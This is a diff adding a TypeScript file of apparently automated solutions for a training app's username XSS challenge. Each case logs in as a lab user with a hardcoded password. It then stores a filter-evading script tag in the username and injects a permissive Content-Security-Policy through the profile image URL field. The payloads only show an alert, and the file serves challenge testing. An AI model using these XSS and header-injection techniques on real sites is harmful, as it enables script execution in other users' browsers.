@@ -1,0 +1,72 @@
+import type { Attack, Tools } from '#lab'
+
+const PAYLOAD = '<script>alert(`xss`)</script>'
+const NAME = '<<a|ascript>alert(`xss`)</script>'
+const ADDRESS = "https://a.png; script-src 'unsafe-inline' 'self' 'unsafe-eval'"
+
+/** What his browser sends along. */
+type Session = { cookie: string }
+
+/** Jim, as his browser knows him. */
+async function jim({ http, settings, expect }: Tools): Promise<Session> {
+  const login = await http.post('/rest/user/login', { email: `jim@${settings.domain}`, password: 'ncc-1701' })
+  expect(login.status === 200, `the login answered with ${login.status}`)
+  return { cookie: `token=${login.json<{ authentication: { token: string } }>().authentication.token}` }
+}
+
+/** Sends one of the forms on his page. */
+async function send(
+  { http, expect }: Tools,
+  { cookie }: Session,
+  form: '/profile' | '/profile/image/url',
+  fields: Record<string, string>,
+): Promise<void> {
+  const headers = { cookie, 'content-type': 'application/x-www-form-urlencoded' }
+  const sent = await http.post(form, new URLSearchParams(fields).toString(), { headers })
+  expect(sent.status === 302, `the form was answered with ${sent.status}`)
+}
+
+/** Looks at the page: the script stands in it, and its first policy for scripts lets it run. */
+async function expectAlert({ http, expect }: Tools, { cookie }: Session): Promise<void> {
+  const page = await http.get('/profile', { headers: { cookie } })
+  expect(page.status === 200, `the page answered with ${page.status}`)
+  expect(page.text.includes(PAYLOAD), 'the script is not in the page')
+  const policy = page.headers['content-security-policy'] ?? ''
+  const [, sources = ''] = /(?:^|;)\s*script-src\s([^;]*)/.exec(policy) ?? []
+  expect(sources.split(' ').includes("'unsafe-inline'"), `the policy is in the way: ${policy}`)
+}
+
+export const attacks: Attack[] = [
+  {
+    challenge: 'usernameXssChallenge',
+    name: 'a name in a name, then a picture with a policy behind it',
+    run: async (tools) => {
+      const session = await jim(tools)
+      await send(tools, session, '/profile', { username: NAME })
+      await send(tools, session, '/profile/image/url', { imageUrl: ADDRESS })
+      await expectAlert(tools, session)
+    },
+  },
+  {
+    challenge: 'usernameXssChallenge',
+    name: 'the picture first, with more hosts, and a script two filters deep',
+    run: async (tools) => {
+      const session = await jim(tools)
+      const imageUrl = `${ADDRESS} https://code.getmdl.io http://ajax.googleapis.com`
+      await send(tools, session, '/profile/image/url', { imageUrl })
+      await send(tools, session, '/profile', { username: `${NAME} <<<a|aa|ascript>alert(\`xss\`)</script>` })
+      await expectAlert(tools, session)
+    },
+  },
+  {
+    challenge: 'usernameXssChallenge',
+    name: 'a forbidden word that grows together again',
+    run: async (tools) => {
+      const session = await jim(tools)
+      const words = "'unsafe-inline' 'unsafe-'unsafe-inline'inline'"
+      await send(tools, session, '/profile', { username: NAME })
+      await send(tools, session, '/profile/image/url', { imageUrl: `https://a.png; script-src ${words}` })
+      await expectAlert(tools, session)
+    },
+  },
+]
